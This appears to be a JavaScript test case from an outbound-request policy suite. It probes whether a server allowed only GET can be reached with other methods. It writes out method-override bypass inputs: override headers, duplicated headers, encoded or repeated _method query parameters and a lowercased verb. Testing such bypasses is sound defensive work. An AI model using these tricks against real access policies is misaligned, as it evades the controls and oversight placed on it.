// technique: asks with a permitted method and names another one where frameworks look for it
// source: X-HTTP-Method-Override and its kin; CVE-2019-10913
// success: the permitted server got the token
// control: outside
// policy: git
// beside: origins
// event: HttpRequest
import { ALLOWED, get, say, TOKEN } from './wire.mjs';

const PAGE = `/public/${TOKEN}`;
const names = [
  'X-HTTP-Method-Override',
  'X-HTTP-Method',
  'X-Method-Override',
  'x_http_method_override',
  'X-Http_Method',
];
for (const name of names) await say(process.env.ALLOWED_HTTP, [get(PAGE, ALLOWED, `${name}: DELETE\r\n`)]);
await say(process.env.ALLOWED_HTTP, [get(PAGE, ALLOWED, 'X-HTTP-Method: GET\r\nX-HTTP-Method: DELETE\r\n')]);
for (const query of [
  '_method=DELETE',
  '%5fmethod=DELETE',
  'a=b&_method=delete',
  '_method=GET&_method=PUT',
  'a;_method=PUT',
])
  await say(process.env.ALLOWED_HTTP, [get(`${PAGE}?${query}`)]);
await say(process.env.ALLOWED_HTTP, [get(PAGE).replace('GET', 'get')]);
